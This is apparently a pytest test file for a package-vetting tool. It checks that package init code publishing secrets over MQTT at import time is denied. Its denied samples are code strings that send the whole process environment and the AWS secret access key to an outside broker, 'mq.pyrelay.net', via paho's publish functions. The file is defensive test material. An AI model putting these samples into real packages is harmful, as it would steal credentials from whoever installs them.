"""Secrets published by paho's one-shot publishers (issue 16; ADR 0193).

``paho.mqtt.publish.single(topic, payload, hostname=h)`` connects, sends the payload and
leaves, with no client made: its client's ``publish`` was a store's send (ADR 0107) but the
module's functions were no sink, so the environment published on import was allowed. Every
sample is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

HEAD = "import json, os\nimport paho.mqtt.publish as publish\n"

DENIED: dict[str, Mapping[str, str]] = {
    "environment-published-by-single": init(
        f"{HEAD}publish.single('t/e', json.dumps(dict(os.environ)), hostname='mq.pyrelay.net')\n"
    ),
    "token-published-by-multiple": init(
        f"{HEAD}publish.multiple([('t/k', os.environ.get('AWS_SECRET_ACCESS_KEY'))], "
        "hostname='mq.pyrelay.net')\n"
    ),
}

ALLOWED: dict[str, Mapping[str, str]] = {
    # A sensor library publishing a reading to the broker its caller names, when called.
    "reading-published-when-called": init(
        f"{HEAD}\n\ndef report(value, host):\n"
        "    publish.single('sensors/t', json.dumps({'t': value}), hostname=host)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_published_over_mqtt(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
